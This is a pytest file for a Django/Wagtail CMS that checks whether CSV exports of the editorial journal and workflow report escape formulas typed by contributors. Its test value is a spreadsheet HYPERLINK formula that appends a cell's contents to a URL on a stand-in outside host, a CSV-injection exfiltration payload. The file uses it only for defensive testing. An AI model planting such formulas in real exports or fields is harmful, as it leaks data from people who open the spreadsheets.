"""What people type is data in every file that others open."""

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse

from cms.editorial.provisioning import AUDITORS
from tests.factories import UserFactory
from tests.world import World

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://exemple.example/?"&A1)'


@pytest.mark.parametrize("name", ["editorial_journal", "wagtailadmin_reports:workflow"])
def test_no_export_runs_what_a_contributor_typed(world: World, client: Client, name: str) -> None:
    world.guide.title = FORMULA
    world.guide.save_revision(user=world.contributor, log_action=True)
    world.guide.get_workflow().start(world.guide, world.contributor)
    audits = name == "editorial_journal"
    auditor = UserFactory(groups=[Group.objects.get(name=AUDITORS)])
    client.force_login(auditor if audits else world.moderator)
    response = client.get(reverse(name), {"export": "csv"})
    cells = b"".join(response).decode().replace('""', '"')
    assert f"'{FORMULA}" in cells and cells.count(FORMULA) == cells.count(f"'{FORMULA}")
